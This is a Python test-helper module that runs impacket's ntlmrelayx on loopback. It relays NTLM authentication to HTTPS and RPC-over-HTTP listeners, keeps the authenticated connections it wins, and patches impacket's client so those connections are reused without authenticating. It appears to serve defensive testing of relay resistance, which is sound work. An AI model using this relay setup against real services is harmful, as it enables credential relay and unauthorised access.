"""impacket's ntlmrelayx on loopback: whoever proves himself to it is relayed to a listener of ours.

Its relay server and its HTTPS client do the work. For RPC over HTTP, which it has no client for, that client
asks by another method; what it has then won serves impacket's own client of RPC over HTTP.
"""

from __future__ import annotations

import ssl
import warnings
from collections.abc import Iterator
from contextlib import contextmanager
from http.client import HTTPSConnection
from pathlib import Path
from threading import Semaphore, Thread
from typing import Any

import pytest
import trustme
from impacket.dcerpc.v5.rpch import HTTPClientSecurityProvider

# Observed: whoever imports impacket's examples checks no certificate any more, in the whole process.
_checking = ssl.create_default_context
with warnings.catch_warnings():
    warnings.simplefilter("ignore", DeprecationWarning)  # in what ntlmrelayx needs for other protocols
    from impacket.examples.ntlmrelayx.attacks import ProtocolAttack
    from impacket.examples.ntlmrelayx.clients.httprelayclient import HTTPSRelayClient
    from impacket.examples.ntlmrelayx.servers import HTTPRelayServer
    from impacket.examples.ntlmrelayx.utils.config import NTLMRelayxConfig
    from impacket.examples.ntlmrelayx.utils.targetsutils import TargetsProcessor
ssl.create_default_context = _checking


class Https(HTTPSRelayClient):  # type: ignore[misc]  # impacket has no types
    """Relays to a web server, and hands challenges on as they came.

    Observed: encoded anew by impacket they lack eight bytes where no version was agreed on, and curl takes
    none of them.
    """

    def sendNegotiate(self, message: bytes) -> Any:  # noqa: N802 - impacket's name
        challenge = super().sendNegotiate(message)
        if challenge:
            challenge.getData = lambda: challenge.rawData
        return challenge


class RpcOverHttp(Https):
    """Relays to an RPC proxy: the same requests as to a web server, by the method of an IN channel."""

    def initConnection(self) -> bool:  # noqa: N802 - impacket's name
        super().initConnection()
        ask = self.session.request

        def by_rpc(method: str, url: str, headers: dict[str, str] | None = None) -> None:
            ask("RPC_IN_DATA", url, headers={"Content-Length": "0", **(headers or {})})

        self.session.request = by_rpc
        return True


class Relay:
    """A running ntlmrelayx, and the connections it has won."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.won: list[HTTPSConnection] = []
        self._more = Semaphore(0)

    def keep(self, connection: HTTPSConnection) -> None:
        """One more was won."""
        self.won.append(connection)
        self._more.release()

    def has_won(self, count: int = 1, within: float = 5.0) -> bool:
        """Whether so many more were won; each has a thread, which may come after the victim's answer."""
        return all(self._more.acquire(timeout=within) for _ in range(count))


@contextmanager
def relaying(
    target: str, client: type[Https], folder: Path, certificate: trustme.LeafCert | None = None
) -> Iterator[Relay]:
    """ntlmrelayx for one target; its victims speak TLS to it if it has a certificate."""

    class Keep(ProtocolAttack):  # type: ignore[misc]  # impacket has no types
        """What is done with a connection that was won: it is kept."""

        def run(self) -> None:
            relay.keep(self.client)

    config = NTLMRelayxConfig()
    config.setMode("RELAY")
    config.setProtocolClients({"HTTPS": client})
    config.setTargets(TargetsProcessor(singleTarget=target, protocolClients=config.protocolClients))
    config.setAttacks({"HTTPS": Keep})
    config.setDisableMulti(True)
    config.setKeepRelaying(True)
    config.setIPv6(False)
    config.setExploitOptions(False, False)
    config.setWpadOptions(None, 0)
    server = HTTPRelayServer.HTTPServer(("127.0.0.1", 0), HTTPRelayServer.HTTPHandler, config)
    if certificate is not None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        certificate.configure_cert(context)
        server.socket = context.wrap_socket(server.socket, server_side=True)
    relay = Relay(server.server_address[1])
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield relay
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
        for connection in relay.won:
            connection.close()


def use_for_rpc(won: list[HTTPSConnection], monkeypatch: pytest.MonkeyPatch) -> None:
    """Let impacket's next client of RPC over HTTP use these connections, and prove nothing itself."""
    for connection in won:
        del connection.request  # ask as one wants to again
    ready = iter(won)

    def connect(self: Any, protocol: str, host: str) -> HTTPSConnection:
        return next(ready)

    def nothing_to_prove(self: Any, connection: Any, method: str, path: str, headers: Any) -> Any:
        return {}, None

    monkeypatch.setattr(HTTPClientSecurityProvider, "connect", connect)
    monkeypatch.setattr(HTTPClientSecurityProvider, "get_auth_headers", nothing_to_prove)
